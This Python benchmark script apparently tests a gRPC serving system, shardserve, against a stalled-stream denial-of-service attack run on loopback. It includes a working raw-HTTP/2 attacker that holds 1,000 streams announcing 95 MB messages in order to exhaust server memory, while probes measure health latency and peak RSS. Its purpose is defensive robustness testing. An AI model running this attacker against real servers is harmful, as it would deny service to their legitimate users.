#!/usr/bin/python3
"""Stalled gRPC streams against a real `shardserve serve` + `shardserve agents` (1 rank, loopback),
with its default limits (and, with --serve-args, other flags beside them in the same run).

The attack: 10 HTTP/2 connections keep 100 streams each open (the default per-connection limit),
every stream announcing a 95 MB message in its gRPC prefix and sending as much of it as the
server's flow-control windows let it (up to 4 MB) before going silent; streams the server resets
are replaced at once. The partial messages live in libgrpc until they are whole, out of reach of
serve's own budgets. Meanwhile this process probes, each on a connection of its own: gRPC health,
a legitimate predict, and REST /health/live; it records serve's peak RSS (VmHWM).

Issue 14's bars: peak RSS <= 3 x the message limit + 100 MB (400 MB), health within 1 s and a
legitimate client served within 2 s throughout. The attacker runs in a child process (raw HTTP/2
through python3-h2), so the probes never wait for its interpreter.

Usage: bench_stalled_streams.py [--seconds S] [--serve-args "FLAGS"]...
(SHARDSERVE and PYTHONPATH as for the tests; needs python3-h2: apt-get install -y python3-h2)

Found with it (issue 14): libgrpc 1.51 holds the partial messages (~1.4 GB for this attack) until
serve's receive deadline cancels them; none of its knobs bounds that without hurting legitimate
clients: a resource quota (GRPC_ARG_RESOURCE_QUOTA) is soft (peak RSS 1.15 GB with a 200 MB quota,
the attacker outruns its reclamation) and, kept full, makes libgrpc send GOAWAY to new and idle
connections, health checks included; without the BDP probe the windows still open to each
message's announced size once the call asks for it (458 MB for 1,000 x 0.8 MB).
"""

import json
import os
import select
import signal
import statistics
import socket
import struct
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(os.path.dirname(HERE), "tests", "serving"))

ROWS, K, N = 4, 16, 8
MSG_MB = 100                        # serve's default --grpc-max-msg-mb
RSS_BOUND_MB = 3 * MSG_MB + 100     # issue 14's bound
CONNECTIONS, STREAMS = 10, 100      # 100 = serve's default --grpc-max-streams
DECLARED = 95 << 20                 # the message each stream announces
PER_STREAM = 4 << 20                # and the most of it each sends before stalling
ATTACK_S = 24                       # within serve's default receive timeout (30 s)
PREDICT = "/mindspore.serving.proto.MSService/Predict"
C = None


# ------------------------------------------------------------------ the attacker (child process)

def attack_connection(host, port, until, stats, lock):
    import h2.config
    import h2.connection
    import h2.events
    import h2.exceptions
    s = socket.create_connection((host, port))
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True,
                                                                header_encoding="utf-8"))
    conn.initiate_connection()
    s.sendall(conn.data_to_send())
    s.setblocking(False)
    sent = {}  # open stream -> bytes of its message sent
    opened = resets = pushed = 0
    pending = b""  # framed bytes the socket has not taken yet (the server may stop reading)
    headers = [(":method", "POST"), (":scheme", "http"), (":path", PREDICT),
               (":authority", "%s:%d" % (host, port)), ("content-type", "application/grpc"),
               ("te", "trailers")]
    try:
        while time.time() < until:
            readable, writable, _ = select.select([s], [s] if pending else [], [], 0.1)
            if readable:
                data = s.recv(1 << 16)
                if not data:
                    break
                for ev in conn.receive_data(data):
                    if isinstance(ev, (h2.events.StreamReset, h2.events.StreamEnded)):
                        resets += sent.pop(ev.stream_id, None) is not None
            if writable:
                try:
                    pending = pending[s.send(pending):]
                except BlockingIOError:
                    pass
            if len(pending) < (1 << 20):
                # keep the peer's stream limit filled: reset streams are replaced at once
                limit = min(STREAMS, conn.remote_settings.max_concurrent_streams)
                while conn.open_outbound_streams < limit:
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, headers)
                    conn.send_data(sid, b"\0" + struct.pack(">I", DECLARED))
                    sent[sid] = 0
                    opened += 1
                for sid in list(sent):
                    try:
                        room = min(conn.local_flow_control_window(sid), PER_STREAM - sent[sid])
                        while room > 0:
                            piece = min(room, conn.max_outbound_frame_size)
                            conn.send_data(sid, bytes(piece))
                            sent[sid] += piece
                            pushed += piece
                            room = min(conn.local_flow_control_window(sid), PER_STREAM - sent[sid])
                    except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError, KeyError):
                        sent.pop(sid, None)
                    pending += conn.data_to_send()
                    if len(pending) >= (4 << 20):
                        break
    except (OSError, h2.exceptions.ProtocolError) as e:
        with lock:
            stats["errors"].append(repr(e)[:120])
        pending = b""
    with lock:
        stats["unsent_mb"] += len(pending) / 1e6
        stats["opened"] += opened
        stats["reset"] += resets
        stats["pushed_mb"] += (pushed - len(pending)) / 1e6  # what the socket took
        stats["open_at_end"] += len(sent)
    s.close()


def attacker_main(host, port, seconds):
    stats = {"opened": 0, "reset": 0, "pushed_mb": 0.0, "unsent_mb": 0.0, "open_at_end": 0,
             "errors": []}
    lock = threading.Lock()
    until = time.time() + seconds
    threads = [threading.Thread(target=attack_connection, args=(host, port, until, stats, lock))
               for _ in range(CONNECTIONS)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(json.dumps(stats))


# ------------------------------------------------------------------ probes (this process)

def vm_hwm_mb(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) / 1024
    return 0.0


def grpc_health_seconds():
    channel = ssc.grpc.insecure_channel(C.grpc, options=[("grpc.enable_http_proxy", 0),
                                                         ("grpc.use_local_subchannel_pool", 1)])
    check = channel.unary_unary("/grpc.health.v1.Health/Check", request_serializer=lambda b: b,
                                response_deserializer=lambda b: b)
    t0 = time.perf_counter()
    try:
        reply = check(b"", timeout=5)
        ok = reply == b"\x08\x01"  # HealthCheckResponse{status: SERVING}
        detail = repr(reply)
    except ssc.grpc.RpcError as e:
        ok, detail = False, "%s: %s" % (e.code(), e.details())
    channel.close()
    return time.perf_counter() - t0, ok, detail


def live_seconds():
    t0 = time.perf_counter()
    try:
        with urllib.request.urlopen("http://%s/health/live" % C.rest, timeout=5) as r:
            ok, detail = r.status == 200, str(r.status)
    except (urllib.error.URLError, OSError) as e:
        ok, detail = False, repr(e)
    return time.perf_counter() - t0, ok, detail


def legit_seconds():
    """A predict on a connection of its own, as a new client makes it (an idle kept-alive
    connection may be closed with GOAWAY when libgrpc's memory runs short: see the README)."""
    x = np.arange(ROWS * K, dtype=np.float32).reshape(ROWS, K) % 7
    channel = ssc.grpc.insecure_channel(C.grpc, options=[("grpc.enable_http_proxy", 0),
                                                         ("grpc.use_local_subchannel_pool", 1)])
    call = channel.unary_unary(PREDICT, request_serializer=lambda b: b,
                               response_deserializer=ssc.PredictReply.FromString)
    payload = ssc.Client(C.grpc, "matmul", "predict")._request([{"x": x}]).SerializeToString()
    t0 = time.perf_counter()
    try:
        r = ssc._parse_reply(call(payload, timeout=10))
    except ssc.grpc.RpcError as e:
        r = ssc._grpc_error(e)
    secs = time.perf_counter() - t0
    channel.close()
    want = np.repeat(-0.5 * x.sum(axis=1, keepdims=True), N, axis=1)
    return secs, isinstance(r, list) and (r[0]["y"] == want).all(), str(r)[:200]


def attack(seconds):
    """Run the attack against C for `seconds`; returns the row of the table."""
    pid = C.server.pid
    with open("/proc/%d/clear_refs" % pid, "w") as f:
        f.write("5")  # a new VmHWM period from here
    host, port = C.grpc.rsplit(":", 1)
    attacker = subprocess.Popen([sys.executable, os.path.abspath(__file__), "--attack", host, port,
                                 str(seconds)], stdout=subprocess.PIPE, text=True)
    probes = {"health": [], "legit": [], "live": []}
    failures = {"health": [], "legit": [], "live": []}
    try:
        while attacker.poll() is None:
            for name, probe in (("health", grpc_health_seconds), ("legit", legit_seconds),
                                ("live", live_seconds)):
                secs, ok, detail = probe()
                probes[name].append(secs)
                if not ok:
                    failures[name].append(detail)
            time.sleep(0.25)
        out, _ = attacker.communicate(timeout=60)
    finally:
        if attacker.poll() is None:
            attacker.kill()
            attacker.wait()
    stats = json.loads(out.strip().splitlines()[-1])
    after = legit_seconds()
    return {"stats": stats, "peak_mb": vm_hwm_mb(pid), "probes": probes, "failures": failures,
            "after_ok": after[1]}


def one_config(extra, seconds):
    global C
    with Cluster() as c:
        C = c
        model = os.path.join(c.dir, "matmul.onnx")
        matmul_neg_model(model, rows=ROWS, k=K, n=N)
        models = c.add_servable("matmul", model, 1, 1)
        table = c.write_rank_table(1)
        c.serve([("matmul", 1, table)], wait_agents=60, extra=tuple(extra))
        c.agents(c.worker_addresses["matmul"][0], models)
        c.wait_ready(1)
        row = attack(seconds)
        c.server.send_signal(signal.SIGTERM)
        row["exit"] = c.server.wait(timeout=60)
        return row


def setup():
    """The serving side's modules (the attacker child needs none of them); also for
    tests/robustness/test_stalled_streams.py."""
    global Cluster, matmul_neg_model, ssc, cpu_line
    try:
        import h2  # noqa: F401
    except ImportError:
        sys.exit("bench_stalled_streams.py needs python3-h2: apt-get install -y python3-h2")
    from cluster import Cluster, matmul_neg_model
    import shardserve_client as ssc
    from bench_serving import cpu_line


def main():
    seconds = ATTACK_S
    if "--seconds" in sys.argv:
        seconds = float(sys.argv[sys.argv.index("--seconds") + 1])
    print(cpu_line())
    print("load average at start: %s" % " ".join(open("/proc/loadavg").read().split()[:3]))
    print("attack: %d connections x %d streams, each announcing %d MB and sending up to %d MB; %.0f s"
          % (CONNECTIONS, STREAMS, DECLARED >> 20, PER_STREAM >> 20, seconds))
    configs = [("serve, defaults", [])]
    for i, a in enumerate(sys.argv):
        if a == "--serve-args":
            configs.append(("serve " + sys.argv[i + 1], sys.argv[i + 1].split()))
    rows = [(name, one_config(extra, seconds)) for name, extra in configs]
    print()
    print("| serve | MB pushed | streams opened / reset by serve | peak RSS MB (bound %d) | gRPC health p50 / max ms, failed |"
          " legit predict p50 / max ms, failed | /health/live max ms, failed | served after | exit |" % RSS_BOUND_MB)
    print("|---|---:|---:|---:|---|---|---|---|---:|")
    for name, r in rows:
        s, pr, f = r["stats"], r["probes"], r["failures"]
        cell = lambda k: "%.0f / %.0f, %d of %d" % (statistics.median(pr[k]) * 1e3, max(pr[k]) * 1e3,
                                                   len(f[k]), len(pr[k]))
        print("| %s | %.0f | %d / %d | %.0f | %s | %s | %.0f, %d of %d | %s | %d |" % (
            name, s["pushed_mb"], s["opened"], s["reset"], r["peak_mb"], cell("health"), cell("legit"),
            max(pr["live"]) * 1e3, len(f["live"]), len(pr["live"]), "yes" if r["after_ok"] else "NO", r["exit"]))
    for name, r in rows:
        for k, texts in r["failures"].items():
            if texts:
                print("%s, %s failures, e.g.: %s" % (name, k, texts[0][:160]))
    return 0


if __name__ == "__main__":
    if len(sys.argv) == 5 and sys.argv[1] == "--attack":
        attacker_main(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
        sys.exit(0)
    setup()
    sys.exit(main())
